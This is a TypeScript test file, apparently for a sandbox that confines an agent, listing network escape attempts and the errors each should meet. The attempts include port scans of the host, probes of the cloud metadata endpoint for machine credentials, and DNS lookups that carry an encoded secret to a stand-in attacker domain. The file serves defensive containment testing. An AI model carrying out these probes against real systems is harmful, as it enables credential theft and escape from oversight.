import { deed, perl } from "./behaviour.ts";
import type { Behaviour } from "./behaviour.ts";

const EAFNOSUPPORT = /^97$/;

/** Sockets and addresses. */
export const NETWORK: readonly Behaviour[] = [
  ...Object.entries({ packet: 17, vsock: 40, alg: 38, key: 15, xdp: 44, tipc: 30, bluetooth: 31, can: 29 }).map(
    ([name, family]) =>
      perl(
        `socket-${name}`,
        [`open a socket of the family ${name}`, "no such family"],
        `socket(my $s, ${family}, 1, 0); print $!+0`,
        EAFNOSUPPORT,
      ),
  ),
  perl(
    "socket-netfilter",
    ["change the firewall", "no such family"],
    "socket(my $s, 16, 3, 12); print $!+0",
    EAFNOSUPPORT,
  ),
  perl("socket-raw", ["send packets of its own making", "EPERM"], "socket(my $s, 2, 3, 1); print $!+0", /^1$/),
  deed(
    "host-loopback",
    ["speak to a service on the host's loopback", "its loopback is its own"],
    "connect",
    ({ hostPort }) => ({ host: "127.0.0.1", port: hostPort }),
    /ECONNREFUSED/,
  ),
  deed(
    "host-loopback-6",
    ["the same over IPv6", "its loopback is its own"],
    "connect",
    ({ hostPort }) => ({ host: "::1", port: hostPort }),
    /ECONNREFUSED|EADDRNOTAVAIL|ENETUNREACH/,
  ),
  deed(
    "scan",
    ["look for open ports of the host", "none but its own way out"],
    "scan",
    ({ hostPort }) => ({ ports: [22, 80, 443, 2375, 4100, 4101, 5432, 6379, 8080, 9200, hostPort] }),
    /"got":\[\]/,
  ),
  deed(
    "host-socket",
    ["speak to a unix socket of the host", "it is not there"],
    "connect",
    ({ hostSocket }) => ({ path: hostSocket }),
    /ENOENT/,
  ),
  deed(
    "abstract-socket",
    ["speak to an abstract socket of the host", "its names are its own"],
    "connect",
    ({ abstractName }) => ({ path: abstractName }),
    /ECONNREFUSED/,
  ),
  deed(
    "sibling-socket",
    ["speak to a sibling past the gateway", "it is not there"],
    "connect",
    ({ sibling }) => ({ path: sibling.socketPath }),
    /ENOENT/,
  ),
  deed(
    "sibling-services",
    ["ask the platform in a sibling's name", "its services socket is not there"],
    "connect",
    ({ sibling }) => ({ path: sibling.socketPath.replace(/agent\/agent\.sock$|agent\.sock$/, "services.sock") }),
    /ENOENT/,
  ),
  deed(
    "metadata",
    ["ask the cloud for the machine's credentials", "no route"],
    "connect",
    { host: "169.254.169.254", port: 80 },
    /ENETUNREACH|ECONNREFUSED/,
  ),
  deed(
    "metadata-6",
    ["the same over IPv6", "no route"],
    "connect",
    { host: "fd00:ec2::254", port: 80 },
    /ENETUNREACH|EADDRNOTAVAIL/,
  ),
  deed(
    "outside",
    ["connect to the internet past the proxy", "no route"],
    "connect",
    { host: "1.1.1.1", port: 443 },
    /ENETUNREACH/,
  ),
  deed(
    "dns-a",
    ["carry a secret out in a name that it looks up", "there is no resolver"],
    "lookup",
    { name: "c2VjcmV0.evil.example" },
    /"code":"(ENOTFOUND|EAI_AGAIN)"/,
  ),
  deed(
    "dns-txt",
    ["the same by a TXT record", "there is no resolver"],
    "lookup",
    { name: "c2VjcmV0.evil.example", type: "TXT" },
    /"code":"(ECONNREFUSED|ETIMEOUT|ENOTFOUND|ESERVFAIL)"/,
  ),
  perl(
    "dns-udp",
    ["send the question to a resolver of its choice", "no route"],
    'socket(my $s, 2, 2, 17); my $sent = send($s, "x", 0, pack("SnC4x8", 2, 53, 8, 8, 8, 8)); print defined $sent ? "sent" : $!+0',
    /^101$/,
  ),
];
